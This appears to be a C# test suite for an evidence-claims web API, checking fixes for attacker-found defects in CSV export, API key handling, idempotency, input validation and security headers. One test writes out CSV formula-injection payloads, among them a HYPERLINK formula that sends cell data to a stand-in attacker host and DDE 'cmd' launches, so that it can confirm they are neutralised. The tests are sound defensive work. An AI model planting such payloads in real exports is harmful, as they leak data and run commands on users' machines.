using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text.Json;
using System.Text.Json.Nodes;
using EvidenceApi.Editors;
using EvidenceApi.Tests.Claims;
using EvidenceApi.Tests.Infrastructure;
using EvidenceApi.Tests.Infrastructure.OpenApi;
using Npgsql;

namespace EvidenceApi.Tests.Infrastructure.Http;

/// <summary>The defects an outside attacker found: each test failed on the code before its fix.</summary>
public sealed class AbuseTests(ApiFixture api) : IClassFixture<ApiFixture>
{
    [Fact]
    public async Task Csv_export_neutralises_formulas_in_every_text_column()
    {
        var editor = await api.EditorClientAsync();
        var (claim, _) = await api.CreateClaimAsync(editor);
        var id = claim.GetProperty("id").GetGuid();
        // Every column a person or an article can put words in, each beginning with another formula trigger.
        var dangerous = new Dictionary<string, string>
        {
            ["sourceTitle"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")",
            ["quote"] = "+cmd|' /C calc'!A0",
            ["section"] = "-2+3+cmd|' /C calc'!A0",
            ["effect"] = "@SUM(1+1)*cmd|' /C calc'!A0",
            ["retiredReason"] = "\t=1+1",
        };
        await using (var db = api.DataSource())
        await using (var command = db.CreateCommand("""
            insert into sources (id, title, text, sha256) select gen_random_uuid(), @title, @quote, encode(sha256(convert_to(@quote, 'UTF8')), 'hex');
            update claims set source_id = (select id from sources where title = @title), quote = @quote, position_start = 0,
                position_end = length(@quote), section = @section, effect = @effect, retired_at = now(), retired_reason = @retired
            where id = @id
            """))
        {
            command.Parameters.AddWithValue("title", dangerous["sourceTitle"]);
            command.Parameters.AddWithValue("quote", dangerous["quote"]);
            command.Parameters.AddWithValue("section", dangerous["section"]);
            command.Parameters.AddWithValue("effect", dangerous["effect"]);
            command.Parameters.AddWithValue("retired", dangerous["retiredReason"]);
            command.Parameters.AddWithValue("id", id);
            await command.ExecuteNonQueryAsync();
        }

        var text = await (await api.Client.GetAsync($"/v1/claims/export?format=csv&includeRetired=true&id={id}")).Content.ReadAsStringAsync();
        var rows = FacetAndExportTests.Csv.Parse(text);
        Assert.Equal(2, rows.Count);
        foreach (var (column, value) in dangerous)
        {
            // the cell reads as text: a single quote before the formula, inside a quoted field
            Assert.Equal("'" + value, rows[1][Array.IndexOf(rows[0], column)]);
            Assert.Contains("\"'" + value.Replace("\"", "\"\"") + "\"", text);
        }
        // no cell of the file begins with a trigger
        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]), cell));
    }

    [Fact]
    public async Task A_new_editor_key_is_never_stored_and_a_replay_does_not_show_it()
    {
        var admin = await api.EditorClientAsync(EditorRole.Admin);
        var body = new { name = "key-once-" + Guid.NewGuid().ToString("N")[..8] };
        var key = Guid.NewGuid().ToString();
        var first = await admin.SendJsonAsync(HttpMethod.Post, "/v1/editors", body, headers: ("Idempotency-Key", key));
        var created = await first.JsonAsync(HttpStatusCode.Created);
        var editorKey = created.GetProperty("key").GetString()!;
        Assert.StartsWith("evk_", editorKey);

        await using (var db = api.DataSource())
        await using (var command = db.CreateCommand("select string_agg(response_body || headers::text, ' ') from idempotency_keys"))
            Assert.DoesNotContain(editorKey[36..], (string)(await command.ExecuteScalarAsync())!);

        var replay = await admin.SendJsonAsync(HttpMethod.Post, "/v1/editors", body, headers: ("Idempotency-Key", key));
        var replayed = await replay.JsonAsync(HttpStatusCode.Created);
        Assert.Equal("true", replay.Headers.GetValues("Idempotent-Replayed").Single());
        Assert.Equal(JsonValueKind.Null, replayed.GetProperty("key").ValueKind);
        Assert.Contains("shown only in the first response", replayed.GetProperty("keyNotice").GetString());
        Assert.DoesNotContain(editorKey[36..], await replay.Content.ReadAsStringAsync());

        var id = created.GetProperty("editor").GetProperty("id").GetGuid();
        await (await admin.PostAsync($"/v1/editors/{id}/revoke", null)).JsonAsync();
        var afterRevoke = await admin.SendJsonAsync(HttpMethod.Post, "/v1/editors", body, headers: ("Idempotency-Key", key));
        Assert.DoesNotContain(editorKey[36..], await afterRevoke.Content.ReadAsStringAsync());
    }

    [Fact]
    public async Task An_idempotency_key_is_scoped_by_the_route_not_by_how_the_path_is_spelled()
    {
        var editor = await api.EditorClientAsync();
        var body = await api.NewClaimBodyAsync();
        body["effect"] = "scope " + Guid.NewGuid();
        var key = Guid.NewGuid().ToString();
        var statuses = new List<HttpStatusCode>();
        foreach (var path in new[] { "/v1/claims", "/V1/Claims", "/v1/claims/" })
            statuses.Add((await editor.SendJsonAsync(HttpMethod.Post, path, body, headers: ("Idempotency-Key", key))).StatusCode);
        Assert.All(statuses, s => Assert.Equal(HttpStatusCode.Created, s));

        await using var db = api.DataSource();
        await using var command = db.CreateCommand("select count(*) from claims where effect = @effect");
        command.Parameters.AddWithValue("effect", body["effect"]!.GetValue<string>());
        Assert.Equal(1L, await command.ExecuteScalarAsync());

        // an id in another case names the same claim, so the same key replays there too
        var (claim, etag) = await api.CreateClaimAsync(editor);
        var claimId = claim.GetProperty("id").GetGuid();
        var flagKey = Guid.NewGuid().ToString();
        var flag = new { reason = "unsupported" };
        var lower = await editor.SendJsonAsync(HttpMethod.Post, $"/v1/claims/{claimId}/flags", flag, etag, headers: ("Idempotency-Key", flagKey));
        await lower.JsonAsync(HttpStatusCode.Created);
        var upper = await editor.SendJsonAsync(HttpMethod.Post, $"/v1/claims/{claimId.ToString().ToUpperInvariant()}/flags", flag, etag,
            headers: ("Idempotency-Key", flagKey));
        await upper.JsonAsync(HttpStatusCode.Created);
        Assert.Equal("true", upper.Headers.GetValues("Idempotent-Replayed").Single());
    }

    [Theory]
    [InlineData("{\"section\":\"\\ud800\"}", "application/merge-patch+json")]
    [InlineData("{\"section\":\"\\ud800\"}", "application/json")]
    [InlineData("{\"\\udc00\":1}", "application/merge-patch+json")]
    public async Task Patch_with_text_that_is_not_unicode_is_400(string body, string contentType)
    {
        var editor = await api.EditorClientAsync();
        var (claim, etag) = await api.CreateClaimAsync(editor);
        var response = await editor.SendJsonAsync(HttpMethod.Patch, $"/v1/claims/{claim.GetProperty("id")}", body, etag, contentType);
        await response.ProblemAsync(HttpStatusCode.BadRequest);

        var invalidUtf8 = new HttpRequestMessage(HttpMethod.Patch, $"/v1/claims/{claim.GetProperty("id")}")
        {
            Content = new ByteArrayContent([.. "{\"section\":\"caf"u8, 0xFF, .. "\"}"u8]),
        };
        invalidUtf8.Content.Headers.ContentType = new MediaTypeHeaderValue(contentType);
        invalidUtf8.Headers.TryAddWithoutValidation("If-Match", etag);
        await (await editor.SendAsync(invalidUtf8)).ProblemAsync(HttpStatusCode.BadRequest);
        Assert.Equal(etag, (await api.Client.GetAsync($"/v1/claims/{claim.GetProperty("id")}")).Headers.ETag!.Tag);
    }

    [Fact]
    public async Task If_match_star_is_428_and_an_unquoted_etag_is_400()
    {
        var editor = await api.EditorClientAsync();
        var (claim, etag) = await api.CreateClaimAsync(editor);
        var url = $"/v1/claims/{claim.GetProperty("id")}";
        var star = await editor.SendJsonAsync(HttpMethod.Patch, url, new { effect = "changed" }, "*", "application/merge-patch+json");
        Assert.Contains("ETag", (await star.ProblemAsync(HttpStatusCode.PreconditionRequired)).GetProperty("detail").GetString());
        var unquoted = await editor.SendJsonAsync(HttpMethod.Patch, url, new { effect = "changed" }, etag.Trim('"'), "application/merge-patch+json");
        Assert.Contains("double quotes", (await unquoted.ProblemAsync(HttpStatusCode.BadRequest)).GetProperty("detail").GetString());
        var flag = await editor.SendJsonAsync(HttpMethod.Post, $"{url}/flags", new { reason = "unsupported" }, "*");
        await flag.ProblemAsync(HttpStatusCode.PreconditionRequired);
        Assert.Equal(etag, (await api.Client.GetAsync(url)).Headers.ETag!.Tag);
    }

    [Theory]
    [InlineData("population=Adults")]
    [InlineData("population=adults%20")]
    [InlineData("population=%20adults")]
    [InlineData("sort=--createdAt")]
    [InlineData("sort=%20createdAt")]
    [InlineData("direction=BENEFIT")]
    [InlineData("condition=Chronic-Pain")]
    public async Task Query_values_are_exact(string query) =>
        await (await api.Client.GetAsync($"/v1/claims?{query}")).ProblemAsync(HttpStatusCode.BadRequest);

    [Theory]
    [InlineData("population", "\"Adults\"")]
    [InlineData("population", "\"adults \"")]
    [InlineData("direction", "\"Benefit\"")]
    [InlineData("claimedStrength", "1")]
    [InlineData("routes", "[\"Oral\"]")]
    [InlineData("position", "\"x\"")]
    [InlineData("conditions", "\"chronic-pain\"")]
    [InlineData("sourceId", "12")]
    public async Task Body_values_are_exact_and_problems_name_no_dotnet_types(string field, string json)
    {
        var editor = await api.EditorClientAsync();
        var body = await api.NewClaimBodyAsync();
        body[field] = JsonNode.Parse(json);
        var response = await editor.SendJsonAsync(HttpMethod.Post, "/v1/claims", body.ToJsonString());
        var problem = (await response.ProblemAsync(HttpStatusCode.BadRequest)).GetRawText();
        Assert.DoesNotContain("EvidenceApi.", problem);
        Assert.DoesNotContain("System.", problem);
        Assert.DoesNotContain("Nullable", problem);
    }

    [Fact]
    public async Task A_revoked_key_gets_the_same_401_as_an_unknown_one()
    {
        var revoked = await api.CreateEditorAsync();
        await using (var db = api.DataSource())
        await using (var connection = await db.OpenConnectionAsync())
            await EditorStore.RevokeAsync(connection, revoked.Editor.Name, default);
        var unknown = "evk_" + Guid.NewGuid().ToString("N") + revoked.Key![36..];

        async Task<string> DetailAsync(string key)
        {
            var client = api.Factory.CreateClient();
            client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", key);
            var response = await client.PostAsJsonAsync("/v1/claims", await api.NewClaimBodyAsync());
            return (await response.ProblemAsync(HttpStatusCode.Unauthorized)).GetProperty("detail").GetString()!;
        }
        Assert.Equal(await DetailAsync(unknown), await DetailAsync(revoked.Key!));
    }

    [Fact]
    public async Task Head_answers_every_get_route_like_get_without_a_body()
    {
        var editor = await api.EditorClientAsync(EditorRole.Admin);
        var (claim, etag) = await api.CreateClaimAsync(editor);
        var flag = await (await editor.SendJsonAsync(HttpMethod.Post, $"/v1/claims/{claim.GetProperty("id")}/flags", new { reason = "unsupported" }, etag))
            .JsonAsync(HttpStatusCode.Created);
        var citation = Guid.NewGuid();
        var source = claim.GetProperty("source").GetProperty("id").GetGuid();
        var values = new Dictionary<string, string>
        {
            ["citationId"] = citation.ToString(),
        };

        foreach (var op in OpenApiOperation.All().Where(o => o.Method == "GET"))
        {
            values["id"] = op.Path.StartsWith("/v1/flags") ? flag.GetProperty("id").GetString()!
                : op.Path.StartsWith("/v1/sources") ? source.ToString()
                : op.Path.StartsWith("/v1/editors") ? Guid.NewGuid().ToString() : claim.GetProperty("id").GetString()!;
            var url = op.Url(values);
            var get = await editor.GetAsync(url);
            var head = await editor.SendAsync(new HttpRequestMessage(HttpMethod.Head, url));
            Assert.True(get.StatusCode == head.StatusCode, $"HEAD {url}: {(int)head.StatusCode}, GET: {(int)get.StatusCode}");
            Assert.Empty(await head.Content.ReadAsByteArrayAsync());
            Assert.Equal(get.Headers.ETag, head.Headers.ETag);
        }
    }

    [Fact]
    public async Task Swagger_ui_is_served_under_a_content_security_policy_it_can_live_with()
    {
        var page = await api.Client.GetAsync("/swagger/index.html");
        Assert.Equal(HttpStatusCode.OK, page.StatusCode);
        var policy = page.Headers.GetValues("Content-Security-Policy").Single();
        Assert.Contains("script-src 'self'", policy);
        Assert.Contains("frame-ancestors 'none'", policy);
        Assert.DoesNotContain("unsafe-eval", policy);
        Assert.DoesNotContain("'unsafe-inline'", policy.Split(';').Single(d => d.Trim().StartsWith("script-src")));
        // with script-src 'self' the page may only load scripts from files: an inline script would not run
        var html = await page.Content.ReadAsStringAsync();
        var scripts = System.Text.RegularExpressions.Regex.Matches(html, "<script(?<attributes>[^>]*)>(?<body>.*?)</script>",
            System.Text.RegularExpressions.RegexOptions.Singleline);
        Assert.NotEmpty(scripts);
        Assert.All(scripts, s => Assert.True(s.Groups["attributes"].Value.Contains("src=") && s.Groups["body"].Value.Trim() == "", s.Value));
        Assert.Equal(HttpStatusCode.OK, (await api.Client.GetAsync("/swagger/index.js")).StatusCode);
        Assert.Contains("default-src 'none'", (await api.Client.GetAsync("/v1/conditions")).Headers.GetValues("Content-Security-Policy").Single());
    }

    [Fact]
    public async Task A_key_that_is_not_valid_is_401_even_on_a_read()
    {
        foreach (var header in new[] { "Bearer garbage", "Bearer evk_" + Guid.NewGuid().ToString("N") + "_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx", "x" })
        {
            var request = new HttpRequestMessage(HttpMethod.Get, "/v1/conditions");
            request.Headers.TryAddWithoutValidation("Authorization", header);
            await (await api.Client.SendAsync(request)).ProblemAsync(HttpStatusCode.Unauthorized);
        }
        Assert.Equal(HttpStatusCode.OK, (await api.Client.GetAsync("/v1/conditions")).StatusCode);
    }

    [Fact]
    public async Task Head_on_an_export_answers_with_its_headers_without_running_it()
    {
        var head = await api.Client.SendAsync(new HttpRequestMessage(HttpMethod.Head, "/v1/claims/export?format=csv"));
        Assert.Equal(HttpStatusCode.OK, head.StatusCode);
        Assert.Equal("text/csv", head.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", head.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Empty(await head.Content.ReadAsByteArrayAsync());
    }

    [Fact]
    public async Task A_merge_patch_merges_nested_objects_and_messages_say_what_was_expected()
    {
        var editor = await api.EditorClientAsync();
        var (claim, etag) = await api.CreateClaimAsync(editor);
        var url = $"/v1/claims/{claim.GetProperty("id")}";
        var start = claim.GetProperty("position").GetProperty("start").GetInt32();
        // RFC 7396: `end` is kept from the claim; the claim is unchanged, so its version too
        var same = await editor.SendJsonAsync(HttpMethod.Patch, url, $"{{\"position\":{{\"start\":{start}}}}}", etag, "application/merge-patch+json");
        Assert.Equal(claim.GetProperty("position").GetRawText(), (await same.JsonAsync()).GetProperty("position").GetRawText());
        Assert.Equal(etag, same.Headers.ETag!.Tag);

        var number = await editor.SendJsonAsync(HttpMethod.Patch, url, "{\"conditions\":[1]}", etag, "application/merge-patch+json");
        var problem = (await number.ProblemAsync(HttpStatusCode.BadRequest)).GetRawText();
        Assert.Contains("Expected a string", problem);
        Assert.DoesNotContain("BytePositionInLine", problem);

        var empty = await editor.SendJsonAsync(HttpMethod.Post, "/v1/claims", "", contentType: "application/json");
        Assert.Equal("The request body is missing: send a JSON object.", (await empty.ProblemAsync(HttpStatusCode.BadRequest)).GetProperty("detail").GetString());
        var missing = await editor.SendJsonAsync(HttpMethod.Post, $"{url}/citations", new { kind = "url", identifier = "https://example.org" }, etag);
        // a citation's fields may come from a finding instead, so each missing one is named by the validation
        var errors = (await missing.ProblemAsync(HttpStatusCode.BadRequest)).GetProperty("errors");
        Assert.Equal(["stance", "title", "year"], errors.EnumerateObject().Select(e => e.Name).Order());
    }
}
